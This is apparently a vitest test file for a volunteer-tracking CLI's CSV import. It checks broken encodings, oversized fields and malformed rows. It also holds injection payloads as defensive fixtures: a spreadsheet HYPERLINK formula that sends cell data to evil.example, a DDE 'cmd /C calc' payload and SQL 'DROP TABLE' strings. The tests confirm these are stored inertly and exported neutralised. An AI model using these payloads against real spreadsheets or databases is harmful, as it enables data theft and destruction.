/**
 * Hostile and broken import files (test/fixtures/bad/, plus large/binary ones generated here).
 * Each case: the command, the exit code, a regex the first stderr line must match (with the file line
 * where it applies), and the database afterwards — byte-identical (dbHash) for every failure.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { cloneInto, dbHash, parseCsv, query, queryValue, tmpDb, withDb } from '../helpers.js';
import { rosterCsv } from './proc.js';

const FIX = path.resolve(__dirname, '../fixtures/bad');

type Kind = 'people' | 'hours';
interface Case {
  name: string;
  kind: Kind;
  /** A fixture file name, or a generated file name (key of `generated`). */
  file: string;
  code: number;
  /** The first line of stderr (the one-line error, or the first row error). */
  first?: RegExp;
  /** Further lines that must appear in stderr. */
  also?: RegExp[];
  /** Extra import arguments. */
  args?: string[];
  /** For successful cases: checks on the database and output. */
  after?: (db: string, run: ReturnType<typeof withDb>, out: { stdout: string; stderr: string }) => Promise<void> | void;
}

const ROSTER_H = 'external_id,first_name,last_name,email,notes\n';
const ROW_OK = 'V1,Ana,Okafor,ana@example.org,ok\n';

/** Large or binary fixtures, generated rather than committed. */
const generated: Record<string, () => Buffer> = {
  'roster-1mb-field.csv': () => Buffer.from(ROSTER_H + ROW_OK + 'V2,Sam,Lee,sam@example.org,' + 'x'.repeat(1 << 20) + '\n'),
  'roster-1mb-quoted-multiline.csv': () =>
    Buffer.from(ROSTER_H + ROW_OK + 'V2,Sam,Lee,sam@example.org,"' + 'y,\n'.repeat(1 << 18) + '"\nV3,Kim,Park,kim@example.org,ok\n'),
  'roster-invalid-utf8.csv': () => Buffer.concat([Buffer.from(ROSTER_H + ROW_OK + 'V2,Jos'), Buffer.from([0xe9]), Buffer.from(',Lee,sam@example.org,x\n')]),
  'roster-utf16le-bom.csv': () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(ROSTER_H + ROW_OK, 'utf16le')]),
  'roster-utf16le-no-bom.csv': () => Buffer.from(ROSTER_H + ROW_OK, 'utf16le'),
  'hours-long-note.csv': () => Buffer.from('external_id,date,hours,program,note\nV1,2025-03-01,2,TELE,short\nV2,2025-03-02,1,TELE,' + 'n'.repeat(2001) + '\n'),
  'roster-nul-bytes.csv': () => Buffer.concat([Buffer.from(ROSTER_H + ROW_OK + 'V2,Sam'), Buffer.from([0]), Buffer.from(',Lee,sam@example.org,x\n')]),
};

const count = async (db: string, sql: string) => Number(await queryValue(db, sql));
const ROWS_FAILED = /^ngo: error: \d+ invalid row\(s\) in .*; nothing was imported$/m;

const cases: Case[] = [
  // ---- files that are not usable CSV ----
  { name: 'empty file', kind: 'people', file: 'empty.csv', code: 3, first: /^ngo: error: .*empty\.csv: line 1: the file is empty \(no header line\)$/ },
  {
    name: 'header only (no rows): success, nothing added',
    kind: 'people',
    file: 'roster-header-only.csv',
    code: 0,
    first: /^inserted 0, updated 0, unchanged 0, skipped 0, invalid 0$/,
    after: async (db) => expect(await count(db, 'SELECT count(*) AS n FROM people')).toBe(0),
  },
  {
    name: 'wrong delimiter (a roster using |)',
    kind: 'people',
    file: 'roster-pipe-delimited.csv',
    code: 3,
    first:
      /^ngo: error: .*roster-pipe-delimited\.csv: line 1: no known column in the header \(external_id\|first_name\|last_name\|email\); is the first line a header\?$/,
    also: [/^hint: the columns seem to be separated by "\|": add --delimiter "\|"$/m],
  },
  {
    name: 'the same pipe roster with --delimiter "|" imports',
    kind: 'people',
    file: 'roster-pipe-delimited.csv',
    args: ['--delimiter', '|'],
    code: 0,
    first: /^inserted 2, updated 0, unchanged 0, skipped 0, invalid 0$/,
    after: async (db) => expect(await count(db, "SELECT count(*) AS n FROM people WHERE email IN ('ana@example.org','sam@example.org')")).toBe(2),
  },
  {
    name: 'unterminated quote',
    kind: 'people',
    file: 'roster-unterminated-quote.csv',
    code: 3,
    first: /^ngo: error: .*roster-unterminated-quote\.csv: line 3: a quoted field is never closed \(unterminated quote\)$/,
  },
  {
    name: 'ragged rows (short and long)',
    kind: 'people',
    file: 'roster-ragged.csv',
    code: 3,
    first: /^ngo: error: line 3: expected 4 columns, found 3$/,
    also: [/^ngo: error: line 4: expected 4 columns, found 6 \(extra: "extra", "cells"\)$/m, ROWS_FAILED],
  },
  {
    name: 'a 1 MB field',
    kind: 'people',
    file: 'roster-1mb-field.csv',
    code: 3,
    first: /^ngo: error: line 3, column "notes": notes is too long \(1048576 characters; at most 2000\)$/,
    also: [ROWS_FAILED],
  },
  {
    name: 'a 1 MB quoted field spanning 262,144 lines: the next row keeps its true line number',
    kind: 'people',
    file: 'roster-1mb-quoted-multiline.csv',
    code: 3,
    first: /^ngo: error: line 3, column "notes": notes is too long \(786431 characters; at most 2000\)$/,
    also: [/^ngo: error: 1 invalid row\(s\)/m],
  },
  {
    name: 'invalid UTF-8 (a Windows-1252 é)',
    kind: 'people',
    file: 'roster-invalid-utf8.csv',
    code: 3,
    first: /^ngo: error: .*roster-invalid-utf8\.csv: line 3: invalid UTF-8 \(byte 0xE9; .*Windows-1252\)$/,
  },
  {
    name: 'UTF-16 LE with BOM (Excel "Unicode Text"): read as UTF-16',
    kind: 'people',
    file: 'roster-utf16le-bom.csv',
    code: 0,
    also: [/inserted 1, updated 0/],
  },
  {
    name: 'UTF-16 LE without BOM (NUL bytes at once)',
    kind: 'people',
    file: 'roster-utf16le-no-bom.csv',
    code: 3,
    first: /^ngo: error: .*roster-utf16le-no-bom\.csv: line 1: NUL byte in the file/,
  },
  {
    name: 'NUL byte in a row',
    kind: 'people',
    file: 'roster-nul-bytes.csv',
    code: 3,
    first: /^ngo: error: .*roster-nul-bytes\.csv: line 3: NUL byte in the file/,
  },
  { name: 'file does not exist', kind: 'people', file: 'no-such-file.csv', code: 6, first: /^ngo: error: cannot read .*no-such-file\.csv: no such file$/ },
  { name: 'a directory instead of a file', kind: 'hours', file: '.', code: 6, first: /^ngo: error: cannot read .*: is a directory$/ },

  // ---- valid data that looks dangerous ----
  {
    name: 'formulas (= + - @) in every text cell are valid data: stored verbatim, exported with a leading apostrophe',
    kind: 'people',
    file: 'roster-formulas.csv',
    code: 0,
    first: /^inserted 2, updated 0, unchanged 0, skipped 0, invalid 0$/,
    after: async (db, run) => {
      const stored = await query(db, 'SELECT external_id, first_name, last_name, email, phone, city, postal_code, notes FROM people ORDER BY id');
      expect(stored).toEqual([
        {
          external_id: '=V1',
          first_name: '=Ana',
          last_name: '+Okafor',
          email: '-ana@example.org',
          phone: '-5550100',
          city: '@Boston',
          postal_code: '-02134',
          notes: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        },
        {
          external_id: '+V2',
          first_name: '-Sam',
          last_name: '@Lee',
          email: '=sam@example.org',
          phone: '+1 555 0101',
          city: '-Springfield',
          postal_code: '=60601',
          notes: "@SUM(1+1)*cmd|' /C calc'!A0",
        },
      ]);
      for (const args of [
        ['people', 'export'],
        ['people', 'list', '--format', 'csv'],
      ]) {
        const r = await run(args);
        expect(r.code).toBe(0);
        const rows = parseCsv(r.stdout);
        expect(rows).toHaveLength(2);
        for (const row of rows) {
          for (const [k, v] of Object.entries(row)) {
            if (v !== '' && k !== 'id' && k !== 'status') expect(v, `${args.join(' ')} ${k}`).toMatch(/^'[=+\-@]/);
          }
        }
        expect(rows[0]).toMatchObject({ first_name: "'=Ana", notes: `'=HYPERLINK("http://evil.example/?x="&A1,"click")`, address_line1: "'=1+1" });
      }
      // The export re-imports exactly (our own guard is undone on import).
      const exp = (await run(['people', 'export'])).stdout;
      const f = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'ngo-test-')), 'export.csv');
      fs.writeFileSync(f, exp);
      const again = await run(['people', 'import', f]);
      expect(again.stderr).toContain('inserted 0, updated 0, unchanged 2, skipped 0, invalid 0');
    },
  },
  {
    name: "SQL-looking text ('); DROP TABLE people;--) is stored verbatim",
    kind: 'people',
    file: 'roster-sql.csv',
    code: 0,
    first: /^inserted 1, updated 0, unchanged 0, skipped 0, invalid 0$/,
    after: async (db, run) => {
      expect(await query(db, 'SELECT first_name, last_name, notes FROM people')).toEqual([
        { first_name: "Robert');DROP TABLE people;--", last_name: "O'Brien; DELETE FROM hours", notes: "'); DROP TABLE people;--" },
      ]);
      // Both tables are still there (on either store).
      expect(await count(db, 'SELECT count(*) AS n FROM people')).toBe(1);
      expect(await count(db, 'SELECT count(*) AS n FROM hours')).toBe(0);
      const found = JSON.parse((await run(['people', 'list', '--search', "');DROP TABLE", '--json'])).stdout) as unknown[];
      expect(found).toHaveLength(1);
    },
  },
  {
    name: 'duplicate external_id inside one roster (different emails): the second row is an error naming the first line; nothing written',
    kind: 'people',
    file: 'roster-duplicate-keys.csv',
    code: 3,
    first: /^ngo: error: line 3, column "external_id": the same person as line 2 \(external_id V1\); a roster may hold each person once: merge the two rows$/,
    also: [ROWS_FAILED],
  },
  {
    name: 'the same duplicate with --skip-invalid: the first row lands, the second is rejected',
    kind: 'people',
    file: 'roster-duplicate-keys.csv',
    args: ['--skip-invalid'],
    code: 0,
    after: async (db, _run, out) => {
      expect(out.stderr).toContain('inserted 1, updated 0, unchanged 0, skipped 0, invalid 1');
      expect(await query(db, 'SELECT external_id, email, notes FROM people')).toEqual([{ external_id: 'V1', email: 'ana@example.org', notes: 'first' }]);
    },
  },
  {
    name: 'an hours note over 2,000 characters',
    kind: 'hours',
    file: 'hours-long-note.csv',
    code: 3,
    first: /^ngo: error: line 3, column "note": note is too long \(2001 characters; at most 2000\)$/,
    also: [ROWS_FAILED],
  },

  // ---- hours: numbers, dates, references ----
  ...(
    [
      ['hours-negative.csv', 'hours', /invalid hours "-1\.5" \(must not be negative\)/],
      ['hours-nan.csv', 'hours', /invalid hours "NaN" \(expected a duration such as 1\.5, 1:30, 90 min or 1h30\)/],
      ['hours-huge.csv', 'hours', /invalid hours "1e308" \(expected a duration such as 1\.5, 1:30, 90 min or 1h30\)/],
      ['hours-over-24.csv', 'hours', /duration must be more than 0 and at most 24 hours \(got 24\.50 h\)/],
      ['miles-negative.csv', 'miles', /invalid miles "-12" \(must not be negative\)/],
      ['miles-nan.csv', 'miles', /invalid miles "NaN" \(expected a plain number such as 12\.50\)/],
      ['miles-huge.csv', 'miles', /invalid miles "99999999999999999999" \(too large; at most 100000\.00\)/],
      ['expenses-negative.csv', 'expenses', /invalid expenses "-12\.50" \(must not be negative\)/],
      ['expenses-nan.csv', 'expenses', /invalid expenses "NaN" \(expected a plain number such as 12\.50\)/],
      ['expenses-huge.csv', 'expenses', /invalid expenses "99999999999999999999\.99" \(too large; at most 99999999\.99\)/],
      ['hours-date-invalid.csv', 'date', /invalid date "2026-02-30" \(expected YYYY-MM-DD\)/],
      ['hours-date-future.csv', 'date', /date 2026-12-01 is in the future \(today is 2026-11-23\)/],
      ['hours-unknown-person.csv', 'external_id', /no person with external id "V999"/],
      ['hours-unknown-program.csv', 'program', /unknown program "NOPE"; add it with ngo programs add, or use --create-programs/],
    ] as [string, string, RegExp][]
  ).map(([file, column, msg]): Case => ({
    name: `${file}: line 3, column ${column}`,
    kind: 'hours',
    file,
    code: 3,
    first: new RegExp(`^ngo: error: line 3, column "${column}": ${msg.source}`),
    also: [ROWS_FAILED],
  })),
];

let dir: string;
const templates: Record<Kind, string> = { people: '', hours: '' };

beforeAll(async () => {
  dir = (await tmpDb()).dir;
  for (const [name, make] of Object.entries(generated)) fs.writeFileSync(path.join(dir, name), make());
  // people cases: an empty roster (program TELE only); hours cases: TELE and V1..V50.
  for (const kind of ['people', 'hours'] as Kind[]) {
    const db = path.join(dir, `template-${kind}.db`);
    const run = withDb(db);
    expect((await run(['init'])).code).toBe(0);
    expect((await run(['programs', 'add', 'TELE', '--name', 'Telehealth'])).code).toBe(0);
    if (kind === 'hours') {
      fs.writeFileSync(path.join(dir, 'roster.csv'), rosterCsv());
      expect((await run(['people', 'import', path.join(dir, 'roster.csv')])).code).toBe(0);
    }
    templates[kind] = db;
  }
});

describe('bad and hostile import files', () => {
  it.each(cases)('$kind import: $name', async (c) => {
    const { db } = await tmpDb();
    await cloneInto(templates[c.kind], db);
    const run = withDb(db);
    const file = c.file in generated ? path.join(dir, c.file) : path.join(FIX, c.file);
    const before = await dbHash(db);
    const counts = async () => [
      await count(db, 'SELECT count(*) AS n FROM people'),
      await count(db, 'SELECT count(*) AS n FROM hours'),
      await count(db, 'SELECT count(*) AS n FROM imports'),
    ];
    const countsBefore = await counts();
    const r = await run([c.kind, 'import', file, ...(c.args ?? [])]);
    expect(r.code, r.stderr).toBe(c.code);
    const lines = r.stderr.split('\n').filter((l) => l !== '');
    if (c.first) expect(lines[0]).toMatch(c.first);
    for (const re of c.also ?? []) expect(r.stderr).toMatch(re);
    if (c.code !== 0) {
      expect(r.stdout).toBe('');
      // Errors are one line each (plus an optional hint), never a stack trace or a dump of the file.
      for (const l of lines) expect(l).toMatch(/^(ngo: error: |hint: )/);
      for (const l of lines) expect(l.length).toBeLessThan(400);
      expect(await dbHash(db)).toBe(before);
      expect(await counts()).toEqual(countsBefore);
    } else {
      expect(await count(db, 'SELECT count(*) AS n FROM imports')).toBe(countsBefore[2]! + 1);
    }
    await c.after?.(db, run, r);
  });
});
